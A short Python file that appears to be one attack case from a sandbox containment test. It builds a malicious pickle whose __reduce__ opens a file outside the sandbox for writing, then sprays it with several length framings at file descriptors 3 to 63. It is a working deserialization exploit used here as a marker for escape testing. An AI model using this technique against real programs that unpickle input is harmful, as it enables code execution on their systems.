"""Send a pickle that runs a command in a reader which unpickles.

evidence: file
rung 0: held
control: none, nobody unpickles
"""

import contextlib
import os
import pickle
import struct


class Bomb:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self._path, "w")


def attack(arena: dict[str, str]) -> None:
    payload = pickle.dumps(Bomb(arena["outside"] + "/new"))
    for descriptor in range(3, 64):
        for head in (
            b"",
            struct.pack(">I", len(payload)),
            struct.pack("!i", len(payload)),
            struct.pack("<Q", len(payload)),
        ):
            with contextlib.suppress(OSError):
                os.write(descriptor, head + payload)
